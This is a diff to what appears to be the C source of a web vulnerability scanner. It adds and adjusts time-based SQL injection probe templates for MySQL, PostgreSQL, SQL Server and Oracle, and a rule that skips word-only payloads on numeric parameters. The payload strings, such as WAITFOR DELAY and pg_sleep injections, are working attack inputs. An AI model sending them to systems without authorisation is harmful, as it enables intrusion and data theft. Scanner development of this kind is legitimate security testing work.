@@ -19,6 +19,9 @@ static const struct delay delays[] = {
 	{ "MySQL", "{0}-" MYSQL "/*'XOR" MYSQL "XOR'\"XOR" MYSQL "XOR\"*/", SCAN_STANDARD, ANY },
 	{ "MySQL", "{0} AND " MYSQL "IS NOT NULL", SCAN_STANDARD, NUMBER },
 	{ "MySQL", "{0}' AND " MYSQL "IS NOT NULL AND '1'='1", SCAN_STANDARD, ANY },
+	{ "MySQL", "{0}'||" MYSQL "||'", SCAN_STANDARD, ANY },
+	{ "MySQL", "{0}\" AND " MYSQL "IS NOT NULL AND \"1\"=\"1", SCAN_STANDARD, WORD },
+	{ "MySQL", "{0}%' AND " MYSQL "IS NOT NULL AND '1%'='1", SCAN_STANDARD, WORD },
 	{ "PostgreSQL", "{0}-LENGTH(" PG ")", SCAN_STANDARD, NUMBER },
 	{ "PostgreSQL", "{0}'||" PG "||'", SCAN_STANDARD, ANY },
 	{ "SQL Server", "{0}';WAITFOR DELAY '0:0:{1}'-- -", SCAN_STANDARD, ANY },
@@ -27,7 +30,6 @@ static const struct delay delays[] = {
 	{ "Oracle", "{0}-" ORA, SCAN_DEEP, NUMBER },
 	{ "MySQL", "{0}') AND " MYSQL "IS NOT NULL AND ('1'='1", SCAN_DEEP, ANY },
 	{ "MySQL", "{0}) AND (" MYSQL "IS NOT NULL", SCAN_DEEP, NUMBER },
-	{ "MySQL", "{0}\" AND " MYSQL "IS NOT NULL AND \"1\"=\"1", SCAN_DEEP, ANY },
 	{ "PostgreSQL", "{0}' AND " PG "IS NOT NULL-- -", SCAN_DEEP, ANY },
 	{ "PostgreSQL", "{0}') AND " PG "IS NOT NULL-- -", SCAN_DEEP, ANY },
 	{ "PostgreSQL", "{0}';SELECT pg_sleep({1})-- -", SCAN_DEEP, ANY },
@@ -107,7 +109,7 @@ static void probe_time(struct probe *p, const struct scan_point *pt)
 		return;
 	for (size_t i = 0; i < ARRAY_SIZE(delays); i++) {
 		struct delay d = delays[i];
-		if (d.from > probe_mode(p) || (d.fits == NUMBER && !number))
+		if (d.from > probe_mode(p) || (d.fits == NUMBER && !number) || (d.fits == WORD && number))
 			continue;
 		if (!probe_time_dependent(p, render, &d, &t))
 			continue;
